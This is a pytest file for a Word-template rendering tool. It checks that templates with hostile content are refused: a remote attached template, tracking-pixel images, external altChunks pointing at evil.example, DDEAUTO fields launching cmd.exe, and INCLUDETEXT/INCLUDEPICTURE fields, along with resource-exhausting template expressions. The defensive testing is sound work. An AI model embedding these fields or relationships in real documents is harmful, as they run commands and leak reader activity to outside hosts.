"""Hardening, round two (issue 21), item 2: hostile Word content in a template, and bounded expressions.

Every hostile template here is a shipped template edited in its zip: a remote attached template, a web
beacon image, an external ``altChunk``, an external hyperlink, DDE/DDEAUTO/INCLUDETEXT/INCLUDEPICTURE fields
as ``w:fldSimple`` and as complex fields with the instruction split over runs. Each is refused by ``forenad
templates check`` and ``forenad draft --template`` (exit 2, nothing written), naming the part and the
relationship or field; nothing is stripped. Template expressions that would exhaust memory or time (``~``
doubling, nested loops, growing whole numbers, ``%`` formatting, ``range``) are stopped by the sandbox's
limits, and ``templates check`` says which.
"""

from __future__ import annotations

import contextlib
import copy
import datetime as dt
import io
import re
import shutil
import time
import zipfile
from pathlib import Path

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from forenad import yamlio
from forenad.cli.app import app
from forenad.model import Agreement
from forenad.render.api import render_document
from forenad.render.catalogue import load_template
from forenad.render.errors import TemplateRefused
from forenad.render.lint import check_template
from forenad.render.sandbox import MAX_LOOP_ITERATIONS
from forenad.render.wordsafety import hostile_content

ROOT = Path(__file__).resolve().parents[1]
SHIPPED = ROOT / "templates" / "samverkansavtal-forenad"
UPPSALA = ROOT / "examples" / "uppsala-professor-overlakare.yaml"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
runner = CliRunner()


def run(*args: object) -> tuple[int, str]:
    result = runner.invoke(app, [str(a) for a in args])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, " ".join(result.output.split())


def edited(directory: Path, edits: dict[str, tuple[str, str]], extra: dict[str, str] | None = None) -> Path:
    """A copy of the shipped template whose parts have ``old`` replaced by ``new`` (each must occur)."""
    shutil.copytree(SHIPPED, directory)
    source = (SHIPPED / "template.docx").read_bytes()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(source)) as before,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        for info in before.infolist():
            data = before.read(info)
            if info.filename in edits:
                old, new = edits[info.filename]
                text = data.decode("utf-8")
                assert old in text, (info.filename, old)
                data = text.replace(old, new, 1).encode("utf-8")
            after.writestr(info.filename, data)
        for name, text in (extra or {}).items():
            after.writestr(name, text.encode("utf-8"))
    (directory / "template.docx").write_bytes(out.getvalue())
    return directory


def rel(ident: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{ident}" Type="{REL}/{kind}" Target="{target}"{mode}/>'


DOC_RELS = "word/_rels/document.xml.rels"
BODY = "word/document.xml"
FIRST_PARAGRAPH = "<w:body><w:p>"


def with_doc_rel(relationship: str, body: str = "") -> dict[str, tuple[str, str]]:
    edits = {DOC_RELS: ("</Relationships>", relationship + "</Relationships>")}
    if body:
        edits[BODY] = (FIRST_PARAGRAPH, f"<w:body>{body}<w:p>")
    return edits


def run_field(*pieces: str) -> str:
    """A complex field whose instruction is split over one run per piece."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/>'
        '</w:r><w:r><w:t>resultat</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    + rel("rIdT", "attachedTemplate", "https://mallar.example/Normal.dotm")
    + "</Relationships>"
)
DDEAUTO = (
    '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
    "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
)
NESTED = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    + run_field(' QUOTE "DDEAUTO" ')[5:-6]
    + '<w:r><w:instrText> c:\\\\x.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)

HOSTILE: dict[str, tuple[dict[str, tuple[str, str]], dict[str, str], list[str]]] = {
    "remote attached template (.dotm)": (
        {"word/settings.xml": ("<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdT"/><w:zoom')},
        {"word/_rels/settings.xml.rels": SETTINGS_RELS},
        ["word/_rels/settings.xml.rels", "rIdT", "attachedTemplate", "Normal.dotm"],
    ),
    "web beacon image": (
        with_doc_rel(rel("rIdB", "image", "http://spår.example/pixel.png?id=1")),
        {},
        [DOC_RELS, "rIdB", "image", "pixel.png"],
    ),
    "external altChunk": (
        with_doc_rel(
            rel("rIdC", "aFChunk", "https://evil.example/chunk.html"),
            f'<w:altChunk xmlns:r="{R_NS}" r:id="rIdC"/>',
        ),
        {},
        [DOC_RELS, "rIdC", "aFChunk"],
    ),
    "internal altChunk": (
        with_doc_rel(
            rel("rIdI", "aFChunk", "afchunk.mht", external=False),
            f'<w:altChunk xmlns:r="{R_NS}" r:id="rIdI"/>',
        ),
        {"word/afchunk.mht": "MIME-Version: 1.0\n\n<img src='http://spår.example/x.png'>"},
        [DOC_RELS, "rIdI", "aFChunk"],
    ),
    "external hyperlink": (
        with_doc_rel(rel("rIdH", "hyperlink", "file://server/share/x")),
        {},
        [DOC_RELS, "rIdH", "hyperlink"],
    ),
    "DDEAUTO as fldSimple": (
        {BODY: (FIRST_PARAGRAPH, f"<w:body>{DDEAUTO}<w:p>")},
        {},
        [BODY, "DDEAUTO"],
    ),
    "DDE split over runs": (
        {BODY: (FIRST_PARAGRAPH, "<w:body>" + run_field(" D", "D", "E ", "c:\\\\x.exe") + "<w:p>")},
        {},
        [BODY, "DDE"],
    ),
    "DDEAUTO split inside its name": (
        {BODY: (FIRST_PARAGRAPH, "<w:body>" + run_field(" DD", "EAU", "TO c:\\\\x.exe a") + "<w:p>")},
        {},
        [BODY, "DDEAUTO"],
    ),
    "INCLUDETEXT in lower case": (
        {
            BODY: (
                FIRST_PARAGRAPH,
                "<w:body>" + run_field(' includetext "\\\\\\\\server\\\\x.docx"') + "<w:p>",
            )
        },
        {},
        [BODY, "INCLUDETEXT"],
    ),
    "INCLUDEPICTURE in a header": (
        {
            "word/header1.xml": (
                "<w:p>",
                run_field(' INCLUDEPICTURE "http://spår.example/x.png" \\\\d') + "<w:p>",
            )
        },
        {},
        ["word/header1.xml", "INCLUDEPICTURE"],
    ),
    "a field name built by a nested field": (
        {BODY: (FIRST_PARAGRAPH, f"<w:body>{NESTED}<w:p>")},
        {},
        [BODY],
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_word_content_is_refused_naming_part_and_relationship(tmp_path: Path, case: str) -> None:
    edits, extra, words = HOSTILE[case]
    template = edited(tmp_path / "mall", edits, extra)
    before = (template / "template.docx").read_bytes()

    code, checked = run("templates", "check", template, "--lang", "en")
    assert code == 2, checked
    assert "unsafe: refused" in checked
    for word in words:
        assert word in checked, (word, checked)

    out = tmp_path / "ut"
    code, drafted = run("draft", UPPSALA, "-o", out, "--template", template, "--on", "2026-06-01")
    assert code == 2, drafted
    assert not out.exists() or not any(out.iterdir())
    assert (template / "template.docx").read_bytes() == before  # nothing stripped or changed


def test_the_json_report_names_the_code() -> None:
    import json

    code, _ = run("templates", "check", SHIPPED, "--format", "json")
    assert code == 0
    result = runner.invoke(app, ["templates", "check", str(SHIPPED), "--format", "json"])
    assert json.loads(result.stdout)[0]["unsafe"] is False


def test_benign_fields_and_internal_relationships_pass(tmp_path: Path) -> None:
    """PAGE and NUMPAGES (the shipped footers have them) and a field named DDEX or LINKS are fine."""
    edits = {
        BODY: (FIRST_PARAGRAPH, "<w:body>" + run_field(" PAGE ") + run_field(" DATE \\@ yyyy ") + "<w:p>")
    }
    template = edited(tmp_path / "mall", edits)
    assert not hostile_content((template / "template.docx").read_bytes())
    assert check_template(template).exit_code == 0


_NAMES = st.sampled_from(["DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "INCLUDE", "IMPORT", "LINK"])


@settings(max_examples=100, deadline=None)
@given(
    name=_NAMES,
    case=st.lists(st.booleans(), min_size=14, max_size=14),
    cuts=st.lists(st.integers(0, 40), max_size=4),
    lead=st.sampled_from(["", " ", "  ", ' "', "\t"]),
)
def test_an_external_field_is_found_however_its_instruction_is_split(
    name: str, case: list[bool], cuts: list[int], lead: str
) -> None:
    """The property: any casing, leading space and split of the instruction over runs is found."""
    word = "".join(c.lower() if lower else c for c, lower in zip(name, case, strict=False))
    instruction = f'{lead}{word} "http://x.example/a" \\d'
    points = sorted({min(c, len(instruction)) for c in cuts})
    pieces = [instruction[a:b] for a, b in zip([0, *points], [*points, len(instruction)], strict=True)]
    body = run_field(*[p.replace("&", "&amp;").replace("<", "&lt;") for p in pieces if p])
    xml = f'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>'
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr(BODY, xml)
    found = hostile_content(data.getvalue())
    assert [h.code for h in found] == ["external_field"], (pieces, found)
    assert name in found[0].text("en")


# --- bounded template expressions -----------------------------------------------------------------------


def template_with(tmp_path: Path, *paragraphs: str) -> Path:
    directory = tmp_path / "mall"
    directory.mkdir(exist_ok=True)
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.save(str(directory / "template.docx"))
    (directory / "template.yaml").write_text(
        "id: egen-mall\nversion: '1'\nlanguage: sv\ndocument: egen\ntitle: Egen\n"
        "models: [forenad_en_arbetsgivare, forenad_tva_anstallningar]\nfields: [person.name, parts]\n",
        encoding="utf-8",
    )
    return directory


BOMBS = {
    "~ doubling": (["{% set a = person.name %}"] + ["{% set a = a ~ a %}"] * 40 + ["{{ a }}"], "tecken"),
    "+ doubling": (["{% set a = person.name %}"] + ["{% set a = a + a %}"] * 40 + ["{{ a }}"], "tecken"),
    "growing number": (["{% set n = 10 %}"] + ["{% set n = n * n %}"] * 12 + ["{{ n }}"], "bitar"),
    "nested loops": (
        ["{% for a in parts %}{% for b in parts %}{% for c in parts %}{% for d in parts %}"
         "{% for e in parts %}{% for f in parts %}{% for g in parts %}{% for h in parts %}x"
         "{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}"],
        "varv",
    ),
}  # fmt: skip


def many_parts(n: int) -> Agreement:
    data = copy.deepcopy(yamlio.load(UPPSALA).data)
    data["parts"] = [copy.deepcopy(data["parts"][i % 2]) | {"extent_percent": "0.5"} for i in range(n)]
    data.pop("cost_settlement", None)
    data.pop("total_extent_percent", None)
    return Agreement.model_validate(data)


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_a_template_bomb_is_stopped_by_a_limit_and_named(tmp_path: Path, bomb: str) -> None:
    paragraphs, word = BOMBS[bomb]
    template = template_with(tmp_path, *paragraphs)
    agreement = many_parts(20)  # 20**8 iterations for the nested loops
    loaded = load_template(template / "template.docx", template / "template.yaml")
    for fast in (False, True):
        start = time.perf_counter()
        with pytest.raises(TemplateRefused) as caught:
            render_document(agreement, loaded, on=dt.date(2026, 6, 1), fast=fast)
        assert time.perf_counter() - start < 30
        assert "gräns i sandlådan" in caught.value.message("sv") and word in caught.value.message("sv")
    if bomb != "nested loops":  # two parts in the sample agreements: the loops stay small there
        code, checked = run("templates", "check", template)
        assert code == 2 and "osäker" in checked and word in checked, checked


@pytest.mark.parametrize(
    "expression", ['{{ "%999999999d" % 1 }}', "{{ range(10) }}", "{{ 9 ** 99 }}", "{{ person.name * 9 }}"]
)
def test_formatting_range_powers_and_repetition_are_refused(tmp_path: Path, expression: str) -> None:
    template = template_with(tmp_path, expression)
    code, checked = run("templates", "check", template)
    assert code == 2, checked
    loaded = load_template(template / "template.docx", template / "template.yaml")
    agreement = many_parts(2)
    with pytest.raises(Exception) as caught:  # refused or unknown: never rendered
        render_document(agreement, loaded, on=dt.date(2026, 6, 1))
    assert type(caught.value).__name__ in ("TemplateRefused", "TemplateError")


_OPS = st.sampled_from(["~", "+", "*", "-"])
_ATOMS = st.sampled_from(["a", "b", "person.name", "7", "123456789", "'x'", "parts|length"])


@st.composite
def expressions(draw: st.DrawFn) -> list[str]:
    """A few ``set`` statements combining names, numbers and texts with operators, some in loops."""
    lines = ["{% set a = person.name %}{% set b = 99 %}"]
    for _ in range(draw(st.integers(1, 30))):
        target = draw(st.sampled_from(["a", "b"]))
        expr = f"{draw(_ATOMS)} {draw(_OPS)} {draw(_ATOMS)}"
        if draw(st.booleans()):
            expr = f"{target} {draw(_OPS)} {target}"
        statement = f"{{% set {target} = {expr} %}}"
        if draw(st.integers(0, 4)) == 0:
            loop = "{% for p in parts %}{% for q in parts %}"
            statement = f"{loop}{statement}{{{{ {target} }}}}{{% endfor %}}{{% endfor %}}"
        lines.append(statement)
    lines.append("{{ a }}{{ b }}")
    return lines


@settings(max_examples=40, deadline=None)
@given(expressions())
def test_no_expression_exhausts_time_or_memory(
    tmp_path_factory: pytest.TempPathFactory, lines: list[str]
) -> None:
    """The property: whatever the expressions, a render ends within seconds, drafted or refused."""
    from forenad.errors import ForenadError

    template = template_with(tmp_path_factory.mktemp("bomb"), "".join(lines))
    loaded = load_template(template / "template.docx", template / "template.yaml")
    start = time.perf_counter()
    with contextlib.suppress(ForenadError):
        render_document(AGREEMENT_30, loaded, on=dt.date(2026, 6, 1), fast=True)
    assert time.perf_counter() - start < 20


AGREEMENT_30 = many_parts(30)


def test_the_loop_limit_leaves_room_for_a_large_agreement() -> None:
    assert MAX_LOOP_ITERATIONS >= 100 * 5000  # a 5,000-part agreement looped over a hundred times


def test_check_reports_the_limit_in_english_too(tmp_path: Path) -> None:
    template = template_with(tmp_path, *BOMBS["~ doubling"][0])
    code, checked = run("templates", "check", template, "--lang", "en")
    assert code == 2
    assert re.search(
        r"stopped by a limit of the sandbox: a text in the template grows to \d+ characters", checked
    )
